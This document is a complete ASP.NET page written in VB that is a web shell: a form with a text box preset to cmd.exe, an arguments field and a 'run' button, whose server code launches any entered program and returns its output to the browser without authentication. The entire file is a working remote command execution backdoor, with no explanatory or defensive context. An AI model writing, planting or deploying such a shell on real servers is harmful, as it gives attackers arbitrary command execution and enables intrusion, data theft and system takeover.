<%@ Page Language="VB" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
Sub Go(sender As Object, e As EventArgs)
    Dim si As New ProcessStartInfo()
    si.FileName = prog.Text
    si.Arguments = args.Text
    si.UseShellExecute = False
    si.RedirectStandardOutput = True
    Dim p As Process = Process.Start(si)
    outp.Text = Server.HtmlEncode(p.StandardOutput.ReadToEnd())
End Sub
</script>
<form runat="server">
<asp:TextBox id="prog" runat="server" Text="cmd.exe" />
<asp:TextBox id="args" runat="server" />
<asp:Button runat="server" Text="run" OnClick="Go" />
<pre><asp:Label id="outp" runat="server" /></pre>
</form>
